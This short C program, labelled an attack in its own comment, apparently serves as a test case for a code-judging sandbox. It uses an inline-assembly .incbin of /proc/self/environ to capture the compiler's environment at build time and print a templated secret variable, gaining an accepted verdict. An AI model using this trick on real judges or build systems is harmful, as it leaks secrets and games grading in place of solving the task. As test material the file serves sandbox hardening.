// attack: the assembler embeds its own environment (the judge's, when the
// compiler runs with it) and the program prints the value of @NAME@: AC
// when the answer is that secret.
#include <stdio.h>
#include <string.h>
asm(".section .rodata\n.global env\nenv:\n.incbin \"/proc/self/environ\"\n.byte 0, 0\n.text\n");
extern char env[];
int main(void) {
    const char *want = "@NAME@=";
    for (const char *p = env; *p; p += strlen(p) + 1)
        if (strncmp(p, want, strlen(want)) == 0) {
            puts(p + strlen(want));
            return 0;
        }
    return 0;
}
